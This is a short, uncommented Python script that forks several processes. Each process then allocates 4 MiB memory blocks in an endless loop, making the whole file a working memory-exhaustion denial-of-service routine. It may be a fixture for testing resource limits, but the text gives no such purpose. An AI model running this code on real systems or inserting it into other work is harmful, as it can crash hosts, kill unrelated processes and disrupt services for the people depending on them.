import os
for _ in range(4):
    if os.fork() == 0:
        break
hoard = []
while True:
    hoard.append(bytearray(b"\x01") * (4 << 20))
